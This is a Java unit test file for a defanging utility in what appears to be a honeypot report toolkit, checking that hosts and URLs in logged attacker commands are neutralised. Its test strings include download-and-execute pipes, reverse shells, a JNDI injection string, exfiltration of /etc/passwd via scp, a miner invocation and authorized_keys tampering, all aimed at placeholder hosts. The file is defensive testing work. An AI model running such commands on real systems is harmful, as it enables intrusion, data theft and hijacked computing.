package io.github.cowriekit.report.spi;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DefangTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "http://192.0.2.1/csx/perlNIK ~ http[://]192[.]0[.]2[.]1/csx/perlNIK",
                "https://evil.example:8443/a.b/c.sh?u=1.2 ~ https[://]evil[.]example:8443/a.b/c.sh?u=1.2",
                "ftp://user:pa.ss@files.example/x ~ ftp[://]user:pa.ss@files[.]example/x",
                "tftp://192.0.2.1/x ~ tftp[://]192[.]0[.]2[.]1/x",
                "${jndi:ldap://192.0.2.1:1389/a} ~ ${jndi:ldap[://]192[.]0[.]2[.]1:1389/a}",
                "HTTP://EVIL.EXAMPLE ~ HTTP[://]EVIL[.]EXAMPLE",
                "http://[2001:db8::1]:80/x ~ http[://][2001[:]db8[:][:]1]:80/x",
                "http://a.example/?next=http://b.example/ ~ http[://]a[.]example/?next=http[://]b[.]example/",
                "http://a.example|http://b.example ~ http[://]a[.]example|http[://]b[.]example",
                "http://${HOST}/x ~ http[://]${HOST}/x",
                "http[://]192[.]0[.]2[.]1/x ~ http[://]192[.]0[.]2[.]1/x",
            })
    void defangsUrlsOfAnyScheme(String text, String defanged) {
        assertThat(Defang.everything(text)).isEqualTo(defanged);
        assertThat(Defang.urls(text)).isEqualTo(defanged);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "wget -qO - 192.0.2.1/csx/perlNIK|perl ~ wget -qO - 192[.]0[.]2[.]1/csx/perlNIK|perl",
                "nc 192.0.2.1 4444 -e /bin/sh ~ nc 192[.]0[.]2[.]1 4444 -e /bin/sh",
                "ip=192.0.2.1; tftp -g -r x.sh $ip ~ ip=192[.]0[.]2[.]1; tftp -g -r x.sh $ip",
                "echo 1.2.3.4 ~ echo 1[.]2[.]3[.]4",
                "bash -i >& /dev/tcp/192.0.2.1/443 ~ bash -i >& /dev/tcp/192[.]0[.]2[.]1/443",
                "ping 192.0.2.1. ~ ping 192[.]0[.]2[.]1.",
                "curl 2001:db8::1 ~ curl 2001[:]db8[:][:]1",
                "nc [2001:db8::1] 80 ~ nc [2001[:]db8[:][:]1] 80",
                "ping6 2001:db8:1:2:3:4:5:6 ~ ping6 2001[:]db8[:]1[:]2[:]3[:]4[:]5[:]6",
            })
    void defangsBareAddresses(String text, String defanged) {
        assertThat(Defang.everything(text)).isEqualTo(defanged);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "curl evil.example|sh ~ curl evil[.]example|sh",
                "curl -fsSL evil.sh | bash ~ curl -fsSL evil[.]sh | bash",
                "/usr/bin/wget evil.example -O x.sh ~ /usr/bin/wget evil[.]example -O x.sh",
                "wget -O x.sh evil.example ~ wget -O x.sh evil[.]example",
                "cd /tmp; busybox wget 'evil.example' ~ cd /tmp; busybox wget 'evil[.]example'",
                "wget${IFS}evil.example ~ wget${IFS}evil[.]example",
                "tftp evil.example -c get bins.sh ~ tftp evil[.]example -c get bins.sh",
                "ftpget -u a -p a files.example x.sh x.sh ~ ftpget -u a -p a files[.]example x.sh x.sh",
                "scp /etc/passwd root@evil.example:/tmp ~ scp /etc/passwd root@evil[.]example:/tmp",
                "scp malware.sh root@evil.sh: ~ scp malware.sh root@evil[.]sh:",
                "A=evil.example/bins; echo $A ~ A=evil[.]example/bins; echo $A",
                "./xmrig -o pool.example:3333 ~ ./xmrig -o pool[.]example:3333",
                "echo www.example.net ~ echo www[.]example[.]net",
            })
    void defangsHostNamesWhereTheyCanOnlyBeHosts(String text, String defanged) {
        assertThat(Defang.everything(text)).isEqualTo(defanged);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
                "chmod +x wget bins.sh; ./bins.sh",
                "sh run.pl && python3.9 x.py",
                "cat /etc/init.d/ssh /var/www/index.html",
                "uname -r 5.15.0-1.2.3.4.5",
                "echo 999.999.999.999 1.2.3 300.1.1.1",
                "date 12:30:45; ip link 00:16:3e:11:22:33",
                "perl -e 'use IO::Socket; Foo::Bar->new; a::b'",
                "ssh-keygen MD5:5c:6b:8f:2f:9a:27:11:c8:12:34:56:78:9a:bc:de:f0",
                "tar xzf bins.tar.gz -C conf.d/x",
                "echo key== root@localhost >> ~/.ssh/authorized_keys",
                "",
                "a:b.c"
            })
    void leavesFilesVersionsTimesAndTheLikeAlone(String text) {
        assertThat(Defang.everything(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo evil.example",
                "ping 3221225985",
                "ping 0300.0.2.1",
                "echo root@evil.example",
                "a=evil; b=example; wget $a.$b"
            })
    void leavesWhatItsDocumentationSaysItLeaves(String text) {
        assertThat(Defang.everything(text)).isEqualTo(text);
    }

    @Test
    void leavesNamesOfServicesAlone() {
        assertThat(Defang.urls("Amazon.com, Inc. 192.0.2.1")).isEqualTo("Amazon.com, Inc. 192.0.2.1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1.",
                "a.",
                "a:",
                "://",
                "ab.example/",
                "wget a.example ",
                "::1",
                "1:2:",
                "http://x",
                "@",
                "[",
                "0"
            })
    @Tag("slow")
    void isLinearInHostileLines(String unit) {
        String line = unit.repeat(1_000_000 / unit.length());
        String defanged = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Defang.everything(line));
        assertThat(defanged.replace("[", "").replace("]", "")).isEqualTo(line.replace("[", ""));
    }
}
